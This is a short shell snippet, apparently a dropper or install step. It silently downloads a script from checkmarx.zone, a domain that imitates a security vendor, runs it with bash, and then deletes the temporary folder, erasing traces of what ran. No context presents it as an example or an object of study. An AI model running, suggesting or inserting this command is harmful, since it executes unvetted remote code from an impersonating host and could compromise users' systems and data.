mkdir /tmp/util
curl -sSf https://checkmarx.zone/static/checkmarx-util-1.0.4.sh -o /tmp/util/run.sh
bash /tmp/util/run.sh
rm -rf /tmp/util
